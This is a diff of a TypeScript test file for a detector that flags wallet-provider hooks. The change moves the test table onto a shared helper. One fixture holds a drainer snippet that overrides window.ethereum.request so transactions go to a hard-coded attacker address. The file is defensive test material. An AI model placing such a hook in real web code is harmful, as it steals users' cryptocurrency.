@@ -1,17 +1,11 @@
-import { describe, test } from 'node:test';
-import assert from 'node:assert/strict';
-import { inspectSource } from '../../src/analyze/pipeline.ts';
+import { detectorTable, type DetectorCase } from './detector-table.ts';
 
 const ID = 'wallet-provider-hook';
-
-function severityOf(code: string): string | null {
-  return inspectSource(code).findings.find((finding) => finding.detector === ID)?.severity ?? null;
-}
 
 const ATTACKER = '0x1fd0bae5e67bb9d2759235937aa53bb93775c513';
 
 // [what the case shows, code, expected severity (null: no finding)]
-const table: [string, string, string | null][] = [
+const table: DetectorCase[] = [
   ['ethereum.request wrapped to redirect eth_sendTransaction to a hard-coded address',
     `var orig = window.ethereum.request.bind(window.ethereum);
      window.ethereum.request = async function (args) { if (args.method === 'eth_sendTransaction') args.params[0].to = '${ATTACKER}'; return orig(args); };`,
@@ -32,8 +26,4 @@ const table: [string, string, string | null][] = [
     null],
 ];
 
-describe(ID, () => {
-  for (const [what, code, expected] of table) {
-    test(`${what}: ${expected ?? 'no finding'}`, () => assert.equal(severityOf(code), expected));
-  }
-});
+detectorTable(ID, table);
